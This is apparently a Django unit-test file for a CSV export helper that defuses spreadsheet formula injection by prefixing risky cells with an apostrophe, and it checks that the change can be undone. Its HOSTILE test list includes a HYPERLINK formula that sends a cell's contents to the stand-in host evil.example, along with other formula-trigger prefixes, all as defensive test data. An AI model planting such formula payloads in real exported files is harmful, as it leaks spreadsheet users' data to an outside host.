import csv
import io

from django.test import SimpleTestCase

from shelf.lib.spreadsheet import neutralise, restore, writer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tcmd",
    "\rcmd",
    "'=already",
    "''+twice",
]
PLAIN = ["", "Guide", "'quoted'", "a=b", "o'=x", "'", "''", "1-2"]


class SpreadsheetTestCase(SimpleTestCase):
    def test_it_neutralises_cells_that_start_a_formula(self):
        for value in HOSTILE:
            with self.subTest(value=value):
                self.assertEqual(neutralise(value), "'" + value)

    def test_it_leaves_other_cells_alone(self):
        for value in PLAIN:
            with self.subTest(value=value):
                self.assertEqual(neutralise(value), value)
                self.assertEqual(restore(value), value)

    def test_it_restores_what_it_neutralised(self):
        for value in HOSTILE + PLAIN:
            with self.subTest(value=value):
                self.assertEqual(restore(neutralise(value)), value)

    def test_it_quotes_a_lone_carriage_return_so_the_row_reads_back(self):
        out = io.StringIO()
        w = writer(out)
        w.writerow(["a", "one\rtwo", None, 3])
        w.writerow(["b", "=1+1"])
        rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        self.assertEqual(rows, [["a", "one\rtwo", "", "3"], ["b", "'=1+1"]])
        self.assertEqual([restore(c) for c in rows[1]], ["b", "=1+1"])
